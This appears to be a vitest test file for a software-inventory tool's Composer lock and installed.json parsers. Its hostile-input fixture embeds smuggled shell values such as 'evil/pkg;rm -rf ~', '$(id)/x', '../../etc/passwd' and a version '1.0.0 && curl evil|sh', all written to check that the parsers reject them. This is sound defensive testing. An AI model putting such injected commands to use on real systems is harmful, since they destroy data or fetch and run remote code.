import { execFileSync } from 'node:child_process';
import { truncateSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Component } from '../../../src/common/model.js';
import { parsePurl } from '../../../src/common/purl.js';
import type { CollectResult, Collector } from '../../../src/inventory/collector.js';
import { composerInstalledCollector } from '../../../src/inventory/collectors/composer-installed.js';
import { composerLockCollector, MAX_COMPOSER_FILE_BYTES } from '../../../src/inventory/collectors/composer-lock.js';
import { walk } from '../../../src/inventory/walk.js';
import { PKGDB, makeRoot, runCollector } from '../../helpers/fixtures.js';

const COMPOSER = path.join(PKGDB, 'composer');

/**
 * The reference is Composer itself (Debian's composer 2.5): a lock file's packages are
 * loaded as `Locker::getLockedRepository` loads them (ArrayLoader on `packages` and
 * `packages-dev`), an installed.json through `InstalledFilesystemRepository`, which
 * reads both of Composer's forms. Alias packages (a branch's `2.x-dev` alias of
 * `dev-master`) are Composer's view of the same install and are left out. The file is
 * the only argument; nothing reaches a shell.
 */
const PHP = `
require '/usr/share/php/Composer/autoload.php';
[, $file, $kind] = $argv;
$out = [];
if ($kind === 'lock') {
  $data = (new Composer\\Json\\JsonFile($file))->read();
  $loader = new Composer\\Package\\Loader\\ArrayLoader(null, true);
  foreach (['packages' => false, 'packages-dev' => true] as $key => $dev) {
    foreach ($data[$key] ?? [] as $info) {
      $p = $loader->load($info);
      $out[] = [$p->getPrettyName(), $p->getPrettyVersion(), $dev, $p->getLicense()];
    }
  }
} else {
  $repo = new Composer\\Repository\\InstalledFilesystemRepository(new Composer\\Json\\JsonFile($file));
  $packages = $repo->getPackages();
  // Read after the packages: the repository loads the file on first use.
  $devNames = $repo->getDevMode() === null ? null : $repo->getDevPackageNames();
  foreach ($packages as $p) {
    if ($p instanceof Composer\\Package\\AliasPackage) continue;
    $out[] = [$p->getPrettyName(), $p->getPrettyVersion(), $devNames === null ? null : in_array($p->getName(), $devNames, true), $p->getLicense()];
  }
}
echo json_encode($out);
`;

type Row = [name: string, version: string, dev: boolean | null, licenses: string[]];

function composerReads(file: string, kind: 'lock' | 'installed'): Row[] {
  const rows = JSON.parse(execFileSync('php', ['-r', PHP, '--', file, kind], { encoding: 'utf8' })) as Row[];
  return rows.sort((a, b) => (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : 0));
}

const vigilRows = (cs: Component[]): Row[] => cs.map((c): Row => [c.name, c.version, (c.metadata?.dev as boolean | undefined) ?? null, c.licenses ?? []]);

async function scanWith(root: string, collector: Collector): Promise<CollectResult> {
  const files: string[] = [];
  await walk({ root, starts: ['/'] }, (rel, base) => {
    if (collector.wants?.(rel, base)) files.push(rel);
  });
  return runCollector(collector, root, { files: files.sort() });
}

const LOCKS = ['/trivy-happy/composer.lock', '/trivy-with-dev/composer.lock', '/syft/composer.lock'];
const INSTALLED = ['/trivy-vendor/vendor/composer/installed.json', '/justatest-composer1/vendor/composer/installed.json'];

describe('Composer collectors on real lock and installed.json files', () => {
  beforeAll(() => {
    try {
      execFileSync('php', ['-r', "require '/usr/share/php/Composer/autoload.php';"], { stdio: 'ignore' });
    } catch {
      throw new Error('the Composer collector tests need php-cli and composer (apt-get install php-cli composer)');
    }
  });

  it('reads every composer.lock as Composer loads it: packages, packages-dev as dev, licences', async () => {
    const res = await scanWith(COMPOSER, composerLockCollector);
    expect(res.problems).toEqual([]);
    expect([...new Set(res.components.map((c) => c.locations[0]))].sort()).toEqual([...LOCKS].sort());
    for (const file of LOCKS) {
      const mine = vigilRows(res.components.filter((c) => c.locations[0] === file));
      expect(mine.length, file).toBeGreaterThan(2);
      expect(mine, file).toEqual(composerReads(path.join(COMPOSER, file), 'lock'));
    }
    // trivy's own expectation for composer_happy.lock (parse_test.go @ 17f27bb845f416a056c0d1a60c0d0c3db3ff7ee3), name@version.
    expect(res.components.filter((c) => c.locations[0] === '/trivy-happy/composer.lock').map((c) => `${c.name}@${c.version}`)).toEqual([
      'guzzlehttp/guzzle@6.5.8',
      'guzzlehttp/promises@1.5.2',
      'guzzlehttp/psr7@1.9.0',
      'pear/log@1.13.3',
      'pear/pear_exception@v1.0.2',
      'psr/http-message@1.0.1',
      'ralouphie/getallheaders@3.0.3',
      'symfony/polyfill-intl-idn@v1.27.0',
      'symfony/polyfill-intl-normalizer@v1.27.0',
      'symfony/polyfill-php72@v1.27.0',
    ]);
    const psr7 = res.components.find((c) => c.name === 'guzzlehttp/psr7')!;
    expect(psr7).toEqual({
      ecosystem: 'composer',
      name: 'guzzlehttp/psr7',
      version: '1.9.0',
      purl: 'pkg:composer/guzzlehttp/psr7@1.9.0',
      locations: ['/trivy-happy/composer.lock'],
      foundBy: 'composer-lock',
      licenses: ['MIT'],
      metadata: { dev: false, type: 'library' },
    });
    expect(parsePurl(psr7.purl)).toEqual({ type: 'composer', namespace: 'guzzlehttp', name: 'psr7', version: '1.9.0' });
  });

  it("reads Composer 2's installed.json object and Composer 1's array as Composer does, dev where Composer 2 says", async () => {
    const res = await scanWith(COMPOSER, composerInstalledCollector);
    expect(res.problems).toEqual([]);
    expect([...new Set(res.components.map((c) => c.locations[0]))].sort()).toEqual([...INSTALLED].sort());
    for (const file of INSTALLED) {
      const mine = vigilRows(res.components.filter((c) => c.locations[0] === file));
      expect(mine.length, file).toBeGreaterThan(1);
      expect(mine, file).toEqual(composerReads(path.join(COMPOSER, file), 'installed'));
    }
    // A branch checkout carries its commit: the version alone does not say what is installed.
    expect(res.components.find((c) => c.name === 'phpixie/core')).toMatchObject({
      version: 'dev-master',
      purl: 'pkg:composer/phpixie/core@dev-master',
      metadata: { type: 'library', reference: '387a6d25ca3c73ff8503263db75c7664a69975ca' },
    });
  });

  it('wants composer.lock outside vendor directories and installed.json only inside a composer directory', () => {
    const lock = (p: string) => composerLockCollector.wants!(p, path.posix.basename(p));
    const inst = (p: string) => composerInstalledCollector.wants!(p, path.posix.basename(p));
    expect(['/srv/app/composer.lock', '/composer.lock', '/var/www/wp-content/plugins/x/composer.lock'].map(lock)).toEqual([true, true, true]);
    expect(['/srv/app/vendor/guzzlehttp/guzzle/composer.lock', '/srv/app/composer.json', '/srv/app/composer.lock.bak'].map(lock)).toEqual([false, false, false]);
    expect(['/srv/app/vendor/composer/installed.json', '/srv/app/libs/composer/installed.json'].map(inst)).toEqual([true, true]);
    expect(['/srv/app/installed.json', '/srv/app/vendor/composer/installed.php', '/srv/app/vendor/installed.json'].map(inst)).toEqual([false, false, false]);
  });
});

const HOSTILE_LOCK = JSON.stringify({
  packages: [
    { name: 'good/one', version: 'v1.2.3', license: 'MIT', type: 'library' },
    { name: 'evil/pkg;rm -rf ~', version: '1.0.0' },
    { name: '$(id)/x', version: '1.0.0' },
    { name: '../../etc/passwd', version: '1.0.0' },
    { name: 'new\nline/pkg', version: '1.0.0' },
    { name: `a/${'b'.repeat(300)}`, version: '1.0.0' },
    { name: 'noslash', version: '1.0.0' },
    { name: 'bad/version', version: '1.0.0 && curl evil|sh' },
    { name: 'no/version' },
    { version: '1.0.0' },
    'not an object',
    { name: 'Upper/Case', version: '2.0.0', license: ['GPL-2.0-only', 42, '', 'x'.repeat(300)] },
  ],
  'packages-dev': [{ name: 'dev/tool', version: '3.0.x-dev', source: { reference: 'abc123' }, dist: { reference: '$(id)' } }],
});

describe('Composer collectors on malformed and hostile input', () => {
  it('reports each bad lock file as one problem, each bad package as one, and still reads the good ones', async () => {
    const { root, cleanup } = makeRoot({
      '/a/composer.lock': HOSTILE_LOCK.slice(0, HOSTILE_LOCK.length / 2),
      '/b/composer.lock': Buffer.from([0x7b, 0x00, 0xff, 0xfe, 0x13, 0x37, 0x00, 0x7d]),
      '/c/composer.lock': '',
      '/d/composer.lock': '[]',
      '/e/composer.lock': HOSTILE_LOCK,
      '/f/composer.lock': '{"content-hash":"x"}',
      '/g/composer.lock': '{"packages":{"a/b":"1.0"}}',
      '/h/composer.lock': { copy: path.join(COMPOSER, 'syft/composer.lock') },
    });
    try {
      truncateSync(path.join(root, 'c/composer.lock'), MAX_COMPOSER_FILE_BYTES + 1);
      const res = await scanWith(root, composerLockCollector);
      const codes = Object.fromEntries(['a', 'b', 'c', 'd', 'f', 'g'].map((d) => [d, res.problems.filter((p) => p.path === `/${d}/composer.lock`).map((p) => p.code)]));
      expect(codes).toEqual({ a: ['corrupt'], b: ['corrupt'], c: ['too-large'], d: ['corrupt'], f: ['corrupt'], g: ['corrupt'] });
      expect(res.problems.find((p) => p.path === '/g/composer.lock')!.message).toBe('"packages" is not a list');
      expect(res.problems.filter((p) => p.path === '/e/composer.lock').map((p) => p.message)).toEqual([
        'packages[1]: invalid package name "evil/pkg;rm -rf ~"',
        'packages[2]: invalid package name "$(id)/x"',
        'packages[3]: invalid package name "../../etc/passwd"',
        'packages[4]: invalid package name "new\\nline/pkg"',
        `packages[5]: invalid package name "a/${'b'.repeat(118)}..."`,
        'packages[6]: invalid package name "noslash"',
        'packages[7] (bad/version): invalid version "1.0.0 && curl evil|sh"',
        'packages[8] (no/version) has no version',
        'packages[9] has no name',
        'packages[10] is not an object',
      ]);
      expect(res.problems.every((p) => p.collector === 'composer-lock' && !/[\n\r\0]/.test(p.message) && p.message.length < 400)).toBe(true);
      expect(res.components.filter((c) => c.locations[0] === '/e/composer.lock').map((c) => [c.purl, c.licenses ?? null, c.metadata])).toEqual([
        ['pkg:composer/upper/case@2.0.0', ['GPL-2.0-only'], { dev: false }],
        ['pkg:composer/dev/tool@3.0.x-dev', null, { dev: true, reference: 'abc123' }],
        ['pkg:composer/good/one@v1.2.3', ['MIT'], { dev: false, type: 'library' }],
      ]);
      expect(res.components.filter((c) => c.locations[0] === '/h/composer.lock')).toHaveLength(4);
    } finally {
      cleanup();
    }
  });

  it('reads installed.json in both forms, and reports the broken ones', async () => {
    const { root, cleanup } = makeRoot({
      '/a/vendor/composer/installed.json': '[{"name":"a/b","version":"1.0"',
      '/b/vendor/composer/installed.json': Buffer.from([0x5b, 0x00, 0x5d]),
      '/c/vendor/composer/installed.json': '{"dev":true}',
      '/d/vendor/composer/installed.json': '"packages"',
      '/e/vendor/composer/installed.json': JSON.stringify({ packages: [{ name: 'x/dev', version: '1.0.0' }, { name: 'x/prod', version: '2.0.0' }, { name: 'x/bad;id', version: '1' }], dev: true, 'dev-package-names': ['X/Dev', 7] }),
      '/f/vendor/composer/installed.json': JSON.stringify([{ name: 'x/old', version: '0.1.0' }]),
    });
    try {
      const res = await scanWith(root, composerInstalledCollector);
      const codes = Object.fromEntries(['a', 'b', 'c', 'd', 'e'].map((d) => [d, res.problems.filter((p) => p.path === `/${d}/vendor/composer/installed.json`).map((p) => p.code)]));
      expect(codes).toEqual({ a: ['corrupt'], b: ['corrupt'], c: ['corrupt'], d: ['corrupt'], e: ['malformed-record'] });
      expect(res.components.map((c) => [c.purl, c.metadata ?? null])).toEqual([
        ['pkg:composer/x/dev@1.0.0', { dev: true }],
        ['pkg:composer/x/prod@2.0.0', { dev: false }],
        ['pkg:composer/x/old@0.1.0', null],
      ]);
    } finally {
      cleanup();
    }
  });

  it('caps the problems one lock file can produce', async () => {
    const packages = Array.from({ length: 120 }, (_, i) => ({ name: `bad/${i};x`, version: '1.0.0' }));
    const { root, cleanup } = makeRoot({ '/composer.lock': JSON.stringify({ packages }) });
    try {
      const res = await runCollector(composerLockCollector, root, { files: ['/composer.lock'] });
      expect(res.problems).toHaveLength(51);
      expect(res.problems[50]!.message).toBe('70 more bad entries not listed');
    } finally {
      cleanup();
    }
  });
});
